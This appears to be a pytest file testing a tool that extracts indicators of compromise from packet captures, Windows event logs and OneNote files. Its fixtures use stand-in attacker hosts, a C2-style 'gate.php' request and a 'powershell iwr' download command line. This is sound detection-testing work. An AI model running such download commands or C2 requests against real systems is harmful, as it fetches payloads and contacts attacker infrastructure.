"""Captures, event logs and OneNote: what they tell is found, and what was not read is said."""

from __future__ import annotations

from struct import pack

import pytest

from app.documents.models import State
from tests.documents.conftest import Read
from tests.documents.make.archives import zip_of
from tests.documents.make.captures import (
    ethernet,
    evtx,
    hello,
    ip,
    name,
    pcap,
    pcapng,
    query,
    tcp,
    udp,
)
from tests.documents.make.onenote import FILE, file_object, section
from tests.documents.make.pictures import qr

HOST = "c2.evil-capture.top"
REQUEST = b"GET /gate.php?id=1 HTTP/1.1\r\nUser-Agent: x\r\nHost: " + HOST.encode() + b"\r\n\r\n"
LOCATION = b"HTTP/1.1 302 Found\r\nLocation: http://evil-next.top/\r\n\r\nbody"
URL = f"http://{HOST}/gate.php?id=1"
V6 = {"source": "2a00::5", "target": "2a00:1450::77"}
CLIENT_HELLO = hello(HOST, 900)
DNS = udp(query(HOST), 53)


def tcp_in_two(payload: bytes, port: int) -> list[bytes]:
    half = len(payload) // 2
    return [ethernet(tcp(payload[:half], port)), ethernet(tcp(payload[half:], port))]


CAPTURES = {
    "address": (pcap(ethernet(udp(b"x", 9))), {"61.20.30.40": "address"}),
    "IPv6": (pcap(ethernet(udp(b"x", 9, **V6))), {"2a00:1450::77": "address"}),
    "query": (pcap(ethernet(DNS)), {HOST: "DNS query"}),
    "query for a zone like a file": (pcap(ethernet(udp(query("evil-drop.cab.evil.top"), 53))),
                                     {"evil-drop.cab.evil.top": "DNS query"}),
    "answer": (pcap(ethernet(udp(query(HOST, (1, bytes((61, 7, 7, 7))), (5, name("evil-alias.top")),
                                       (16, b"\x15http://evil-text.top/")), 53))),
               {"61.7.7.7": "DNS answer", "evil-alias.top": "DNS answer",
                "http://evil-text.top/": "DNS answer"}),
    "query over TCP": (pcap(ethernet(tcp(pack(">H", 50) + query(HOST), 53))), {HOST: "DNS query"}),
    "query of IPv6": (pcap(ethernet(udp(query(HOST), 53, **V6))), {HOST: "DNS query"}),
    "server name": (pcap(ethernet(tcp(CLIENT_HELLO, 443))), {HOST: "server name"}),
    "server name in two packets": (pcap(*tcp_in_two(CLIENT_HELLO, 8443)), {HOST: "server name"}),
    "request": (pcap(ethernet(tcp(REQUEST, 80))), {URL: "HTTP request"}),
    "request in two packets": (pcap(*tcp_in_two(REQUEST, 80)), {URL: "HTTP request"}),
    "redirect": (pcap(ethernet(tcp(LOCATION, 8080))), {"http://evil-next.top/": "HTTP answer"}),
    "request to a proxy": (pcap(ethernet(tcp(b"GET " + URL.encode() + b" HTTP/1.1\r\n\r\n", 3128))),
                           {URL: "HTTP request"}),
    "big-endian": (pcap(ethernet(DNS), order=">"), {HOST: "DNS query"}),
    "pcapng": (pcapng(ethernet(DNS), ethernet(tcp(REQUEST, 80))),
               {HOST: "DNS query", URL: "HTTP request"}),
    "VLAN": (pcap(ethernet(DNS, vlan=True)), {HOST: "DNS query"}),
    "raw IP": (pcap(DNS, link=101), {HOST: "DNS query"}),
    "loopback": (pcap(b"\x02\x00\x00\x00" + DNS, link=0), {HOST: "DNS query"}),
    "cooked": (pcap(bytes(14) + b"\x08\x00" + DNS, link=113), {HOST: "DNS query"}),
    "in a ZIP": (zip_of({"a.pcap": pcap(ethernet(DNS))}), {HOST: "a.pcap > DNS query"}),
}  # fmt: skip


@pytest.mark.parametrize("title", CAPTURES)
def test_what_a_capture_tells_is_found_in_its_place(title: str, read: Read) -> None:
    content, expected = CAPTURES[title]
    result = read("a.pcap", content)
    found = {o.evidence.ioc.value: o.place.part for o in result.occurrences()}
    assert expected.items() <= found.items()
    assert result.state is State.PARTIAL
    assert "what else it carries is not" in result.reason


def test_the_line_is_the_number_of_the_packet(read: Read) -> None:
    result = read("a.pcap", pcap(ethernet(udp(b"x", 9)), ethernet(DNS), ethernet(DNS)))
    lines = [o.place.line for o in result.occurrences() if o.evidence.ioc.value == HOST]
    assert lines == [2]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (pcap(ethernet(DNS), ethernet(DNS))[:-9], "cut off"),
        (pcapng(ethernet(DNS), ethernet(DNS))[:-9], "cut off"),
        (pcap(ethernet(DNS), ethernet(ip(b"\x00", 6)), b"\x00"), "1 of its packets"),
        (pcap(ethernet(DNS), bytes(60)), "1 of its packets"),
        (pcap(link=105)[:20], "cut off"),
    ],
)
def test_what_was_not_read_of_a_capture_is_said(content: bytes, reason: str, read: Read) -> None:
    result = read("a.pcap", content)
    assert reason in result.reason


@pytest.mark.parametrize("written", ["5.4.3.2.in-addr.arpa", "printer.local", "localhost"])
def test_names_of_the_local_network_are_not_told(written: str, read: Read) -> None:
    result = read("a.pcap", pcap(ethernet(udp(query(written), 53))))
    assert not [o for o in result.occurrences() if o.evidence.ioc.type.value == "domain"]


SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
EVENTS = {
    "command line": (evtx({"CommandLine": f"powershell iwr {URL}"}), {URL: "event 1"}),
    "short address": (evtx({"x": "y"}, {"DestinationIp": "61.7.7.7"}), {"61.7.7.7": "event 2"}),
    "hash": (evtx({"Hashes": f"SHA256={SHA256}"}), {SHA256: "event 1"}),
    "host": (evtx({"DestinationHostname": HOST}), {HOST: "event 1"}),
    "query": (evtx({"QueryName": HOST, "QueryResults": "::ffff:61.7.7.7;"}), {HOST: "event 1"}),
    "markup": (evtx({"Xml": f"<a href='{URL}&b=2'>"}), {f"{URL}&b=2": "event 1"}),
}  # fmt: skip


@pytest.mark.parametrize("title", EVENTS)
def test_a_field_of_an_event_is_found_in_its_place(title: str, read: Read) -> None:
    content, expected = EVENTS[title]
    result = read("a.evtx", content)
    found = {o.evidence.ioc.value: o.place.part for o in result.occurrences()}
    assert expected.items() <= found.items()
    assert (result.state, result.reason) == (State.OK, "")


@pytest.mark.parametrize(
    "content",
    [
        evtx({"CommandLine": URL})[:5_000],
        evtx({"CommandLine": URL})[:-9],
        b"ElfFile\x00" + bytes(5_000) + URL.encode("utf-16-le"),
        evtx({"CommandLine": URL}).replace(pack("<I", 0x2A2A), bytes(4)),
    ],
)
def test_a_damaged_log_is_read_as_letters_and_says_so(content: bytes, read: Read) -> None:
    result = read("a.evtx", content)
    assert URL in {o.evidence.ioc.value for o in result.occurrences()}
    assert result.state is State.PARTIAL


SCRIPT = f"<script>x='{URL}'</script>".encode()
SECTIONS = {
    "file": (section(file_object(SCRIPT)), {URL: "embedded file 1 > script"}),
    "second file": (section(file_object(b"x"), file_object(SCRIPT)),
                    {URL: "embedded file 2 > script"}),
    "packed file": (section(file_object(zip_of({"a.txt": URL}))), {URL: "embedded file 1 > a.txt"}),
    "picture": (section(file_object(qr(URL))), {URL: "picture 1, QR code"}),
    "text": (section(text=f"open {HOST} now"), {HOST: "text"}),
    "text behind a file": (section(file_object(b"x")) + b"see " + HOST.encode(), {HOST: "text"}),
}  # fmt: skip


@pytest.mark.parametrize("title", SECTIONS)
def test_the_files_and_texts_of_a_section_are_read(title: str, read: Read) -> None:
    content, expected = SECTIONS[title]
    result = read("a.one", content)
    found = {o.evidence.ioc.value: o.place.part for o in result.occurrences()}
    assert expected.items() <= found.items()
    assert (result.state, result.reason) == (State.OK, "")


@pytest.mark.parametrize(
    "content",
    [
        section(file_object(SCRIPT, 2**63)),
        section(file_object(SCRIPT, 9_999)),
        section(file_object(b"x", 10**9), file_object(SCRIPT)),
        section(file_object(SCRIPT), FILE + b"\x00"),
    ],
)
def test_a_wrong_length_in_a_section_hides_nothing(content: bytes, read: Read) -> None:
    result = read("a.one", content)
    assert URL in {o.evidence.ioc.value for o in result.occurrences()}
    assert result.state is State.PARTIAL
